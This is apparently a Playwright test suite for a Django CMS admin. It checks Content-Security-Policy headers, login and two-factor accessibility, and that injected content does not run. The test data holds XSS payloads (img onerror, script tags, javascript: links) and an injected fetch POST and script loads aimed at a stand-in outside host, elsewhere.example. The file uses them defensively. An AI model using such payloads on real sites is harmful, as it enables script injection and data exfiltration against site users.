"""What a browser does with the admin: nothing of it breaks its policy, and what somebody smuggled in does not run."""

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from django.contrib.auth import get_user_model
from django.utils import timezone
from django_otp.oath import totp
from django_otp.plugins.otp_totp.models import TOTPDevice
from playwright.sync_api import Page, expect

from authoring.models import Author, PlainPage, Site, Tag
from authoring.services import (
    articles,
    bulk,
    comments,
    links,
    releases,
    scheduling,
    site,
    subjects,
    two_factor,
)
from cms.databases import READ, WRITE
from tests.authoring.builders import NOW, picture, text
from tests.browser.test_editor import desk
from tests.pipeline import machines

pytestmark = [
    pytest.mark.django_db(transaction=True, databases=[WRITE, READ]),
    pytest.mark.usefixtures("stylesheets"),
]

WATCH = """
window.broken = [];
addEventListener("securitypolicyviolation", (event) => window.broken.push(
    `${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`
));
"""

SETTLED = """() => new Promise((done) => setTimeout(() => done(window.broken), 100))"""

PAGES = [
    "/admin/",
    "/admin/authoring/article/",
    "/admin/authoring/article/?q=hello&status=live",
    "/admin/authoring/article/add/",
    "/admin/authoring/article/{article}/change/",
    "/admin/authoring/article/{article}/preview/",
    "/admin/authoring/article/{article}/revisions/",
    "/admin/authoring/article/{article}/compare/?from=1&to=2",
    "/admin/authoring/article/{article}/delete/",
    "/admin/authoring/article/schedule/?article={article}",
    "/admin/authoring/article/{article}/review/",
    "/admin/authoring/article/{article}/log/",
    "/admin/authoring/article/trash/",
    "/admin/authoring/article/bulk/{job}/",
    "/preview/{token}",
    "/admin/audit/",
    "/admin/authoring/release/",
    "/admin/authoring/release/{release}/change/",
    "/admin/authoring/scheduledchange/calendar/",
    "/admin/authoring/scheduledchange/",
    "/admin/authoring/picture/",
    "/admin/authoring/picture/add/",
    "/admin/authoring/picture/{picture}/change/",
    "/admin/authoring/tag/",
    "/admin/authoring/tag/add/",
    "/admin/authoring/author/",
    "/admin/authoring/plainpage/",
    "/admin/authoring/plainpage/{page}/change/",
    "/admin/authoring/site/1/change/",
    "/admin/authoring/outboxmessage/",
    "/admin/auth/user/",
    "/admin/auth/user/add/",
    "/admin/auth/user/{user}/change/",
    "/admin/auth/group/",
    "/admin/auth/group/add/",
    "/admin/authoring/apitoken/add/",
    "/admin/password_change/",
    "/admin/two-factor/",
    "/admin/two-factor/set-up/",
    "/api/authoring/v1/docs/",
]


@pytest.fixture(scope="module")
def address(django_db_setup: None, stylesheets: None) -> Iterator[str]:
    with machines.web("authoring") as started:
        yield started


@pytest.fixture
def chief() -> Any:
    return get_user_model().objects.create_superuser("chief", password="correct horse")


@contextmanager
def nobody(browser: Any, address: str, **options: Any) -> Iterator[Page]:
    """A page of a browser in which nobody is logged in."""
    window = browser.new_context(base_url=address, **options)
    try:
        yield window.new_page()
    finally:
        window.close()


def publication(chief: Any) -> dict[str, Any]:
    """One of each, with names that would like to run."""
    evil = '<img src=x onerror="window.ran = 1"><script>window.ran = 1</script>'
    site.save_site(Site(name="Fair Copy", accent="#1d6670"), now=NOW)
    tag = subjects.save_tag(Tag(name=evil[:90], slug="systems"), now=NOW)
    subjects.save_author(Author(name=evil[:90], slug="ines"), now=NOW)
    page = site.save_page(PlainPage(title=evil, slug="about", body="Hi"), now=NOW)
    one = articles.create(text(evil, "hello", body=evil, tags=(tag.pk,)), by=chief)
    articles.publish(one.pk, now=NOW)
    articles.save_draft(one.pk, text(evil, "hello", body=f"{evil} again"), by=chief)
    due = timezone.now() + timezone.timedelta(days=1)
    scheduling.schedule(one.pk, action="withdraw", due_at=due, zone="UTC", now=timezone.now())
    comments.comment(one.pk, by=chief, body=evil, number=1)
    made = releases.create(name=evil[:90], note=evil)
    releases.add(made.pk, [one.pk], action="publish")
    _, token = links.make(one.pk, note=evil[:90], expires_at=due, now=timezone.now())
    keys = {"release": made.pk, "token": token, "job": bulk.choose([(one.pk, evil)], by=chief).pk}
    return keys | {"article": one.pk, "picture": picture(name=evil).pk, "page": page.pk, "user": chief.pk}


def test_no_page_of_the_admin_breaks_its_policy_and_no_name_runs(browser, address, chief):
    keys = publication(chief)
    found: dict[str, list[str]] = {}
    with desk(browser, address, chief) as window:
        window.add_init_script(WATCH)
        page = window.new_page()
        for path in (one.format(**keys) for one in PAGES):
            answer = page.goto(path)
            assert answer.status == 200, path
            assert answer.header_value("content-security-policy"), path
            found[path] = page.evaluate(SETTLED)
            assert page.evaluate("window.ran") is None, path
    assert {path: broken for path, broken in found.items() if broken} == {}


SMUGGLE = """() => new Promise((done) => {
    window.ran = [];
    const place = document.createElement("div");
    place.innerHTML = `<img src="/nowhere.png" onerror="window.ran.push(1)">
        <a href="javascript:window.ran.push(2)">x</a>`;
    document.body.append(place);
    const script = document.createElement("script");
    script.textContent = "window.ran.push(3)";
    document.body.append(script);
    for (const address of ["data:text/javascript,window.ran.push(4)", "https://elsewhere.example/x.js"]) {
        document.body.append(Object.assign(document.createElement("script"), { src: address }));
    }
    document.body.append(Object.assign(document.createElement("base"), { href: "https://elsewhere.example/" }));
    document.body.append(Object.assign(document.createElement("iframe"), { src: "https://elsewhere.example/" }));
    document.body.append(Object.assign(document.createElement("img"), { src: "https://elsewhere.example/x.png" }));
    fetch("https://elsewhere.example/", { method: "POST", body: "text" }).catch(() => {});
    place.querySelector("a").click();
    setTimeout(() => done([window.ran, [...new Set(window.broken.map((one) => one.split(" ")[0]))].sort()]), 300);
})"""


def test_what_was_smuggled_into_a_page_does_not_run_and_sends_nothing_away(browser, address, chief):
    with desk(browser, address, chief) as window:
        window.add_init_script(WATCH)
        page = window.new_page()
        page.goto("/admin/authoring/article/add/")

        ran, refused = page.evaluate(SMUGGLE)

    assert ran == []
    assert refused == [
        "base-uri",
        "connect-src",
        "frame-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
    ]


def test_the_live_preview_runs_no_script_and_loads_what_readers_load(browser, address, chief):
    site.save_site(Site(name="Fair Copy", accent="#123456"), now=NOW)
    with desk(browser, address, chief) as window:
        page = window.new_page()
        page.goto("/admin/authoring/article/add/")
        page.fill("#id_title", "A title")
        page.get_by_role("button", name="Preview beside the text").click()
        frame = page.frame_locator("iframe[title=Preview]")
        frame.get_by_role("heading", name="A title").wait_for()
        policy = frame.locator("meta[http-equiv=Content-Security-Policy]").get_attribute(
            "content", timeout=5000
        )

        accent = frame.locator("html").evaluate(
            "(page) => getComputedStyle(page).getPropertyValue('--accent')"
        )

    assert policy
    assert policy.startswith("default-src 'none'")
    assert accent == "#123456"


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_the_way_in_can_be_read_by_everybody_at_any_width(browser, address, chief, width, scheme):
    """From the login through the second factor to the desk, and out again until one is locked out."""
    seen: dict[str, Any] = {}
    look = {"viewport": {"width": width, "height": 844}, "color_scheme": scheme}
    with nobody(browser, address, **look) as page:
        _log_in(page, "correct horse")
        page.goto("/admin/two-factor/")
        seen["account"] = _faults(page)
        page.get_by_role("link", name="Set it up").click()
        seen["set up"] = _faults(page)
        key = page.locator("code.copy").text_content()
        page.fill("[name=code]", _code(chief))
        page.fill("[name=password]", "correct horse")
        page.get_by_role("button", name="Switch it on").click()
        seen["codes"] = _faults(page)
        recovery = page.locator(".recovery code").first.text_content()
    with nobody(browser, address, **look) as page:
        _log_in(page, "correct horse")
        expect(page).to_have_url(f"{address}/admin/two-factor/verify/?next=/admin/")
        seen["verify"] = _faults(page)
        page.fill("[name=code]", recovery or "")
        page.get_by_role("button", name="Go on").click()
        expect(page).to_have_url(f"{address}/admin/")
    with nobody(browser, address, **look) as page:
        page.goto("/admin/login/")
        seen["login"] = _faults(page)
        for _ in range(5):
            _log_in(page, "wrong")
        page.get_by_text("in 15 minutes at most").wait_for()
        seen["locked out"] = _faults(page)

    assert key == two_factor.typed_key(TOTPDevice.objects.get())
    assert {where: faults for where, faults in seen.items() if faults} == {}


def _log_in(page: Page, password: str) -> None:
    page.goto("/admin/login/?next=/admin/")
    page.fill("[name=username]", "chief")
    page.fill("[name=password]", password)
    with page.expect_navigation():
        page.press("[name=password]", "Enter")


def _code(who: Any) -> str:
    return f"{totp(TOTPDevice.objects.get(user=who).bin_key):06}"


def _faults(page: Page) -> list[Any]:
    """What axe finds serious, and whether the page is wider than its window."""
    found: list[Any] = [
        (violation["id"], [node["target"] for node in violation["nodes"]])
        for violation in Axe().run(page).response["violations"]
        if violation["impact"] in ("serious", "critical")
    ]
    if page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth"):
        found.append("sideways")
    return found
